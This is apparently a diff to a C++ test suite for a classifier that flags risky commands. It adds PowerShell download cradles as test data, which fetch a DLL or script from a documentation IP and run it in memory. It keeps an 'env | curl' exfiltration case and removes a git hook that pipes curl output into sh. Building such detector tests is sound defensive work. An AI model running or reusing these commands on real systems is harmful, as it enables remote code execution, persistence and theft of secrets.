@@ -53,6 +53,32 @@ TEST(RubricClasses, WindowsCommandLines) {
   for (const auto& c : cases) check(c);
 }
 
+// Download cradles whose run step is a script block or an in-memory assembly
+// (fifth round): the fetched text or bytes are still what runs.
+TEST(RubricClasses, WindowsCradlesThroughScriptBlocksAndAssemblies) {
+  const Case cases[] = {
+      {"DownloadData into Assembly::Load", B,
+       "import subprocess\nsubprocess.run(['powershell.exe', '-c', \"$x=[System.Net.WebClient]::new(); "
+       "$d=$x.DownloadData('http://203.0.113.5/a.dll'); [Reflection.Assembly]::Load($d)\"])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"DownloadString into a dot-sourced ScriptBlock, through a variable", B,
+       "import os\ncmd = 'powershell -w hidden -c \"$s=(New-Object Net.WebClient).DownloadString(\\'http://203.0.113.5/a\\');"
+       ".([ScriptBlock]::Create($s))\"'\nos.system(cmd)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"the profile dot-sourced before a REST call", M,
+       "import subprocess\nsubprocess.run(['powershell', '-c', '. $PROFILE; Invoke-RestMethod https://api.example.com/v1/status'])\n",
+       "RUNS-PROCESS"},
+      {"a REST call whose answer is printed", M,
+       "import subprocess\nsubprocess.run(['pwsh', '-c', 'Invoke-RestMethod https://api.example.com/s | ConvertTo-Json'])\n",
+       "RUNS-PROCESS"},
+      {"a download unpacked, not run", M,
+       "import subprocess\nsubprocess.run(['powershell', '-c', 'Invoke-WebRequest https://example.com/r.zip -OutFile r.zip; "
+       "Expand-Archive r.zip'])\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 TEST(RubricClasses, ShellEnvironmentDumpsAndHostKeys) {
   const Case cases[] = {
       {"env piped to curl", B, "env | curl -s -d @- http://203.0.113.9/e\n", "EXFILTRATION", SH},
@@ -155,13 +181,6 @@ TEST(RubricClasses, CommandLibrariesTempNamesAndGitHooks) {
        "import tempfile\nwith tempfile.NamedTemporaryFile('w', delete=False) as tf:\n    tf.write('hello')\n"
        "print(open(tf.name).read())\n",
        nullptr},
-      {"git hook written from Python", B,
-       "import os\nhook = os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')\n"
-       "with open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s http://203.0.113.9/b | sh\\n')\n",
-       "PERSISTENCE"},
-      {"git hook written by a shell script", B, "printf '#!/bin/sh\\n./sync\\n' > .git/hooks/pre-commit\n", "PERSISTENCE",
-       SH},
-      {"a hook only read", L, "print(open('.git/hooks/pre-commit.sample').read())\n", nullptr},
   };
   for (const auto& c : cases) check(c);
 }
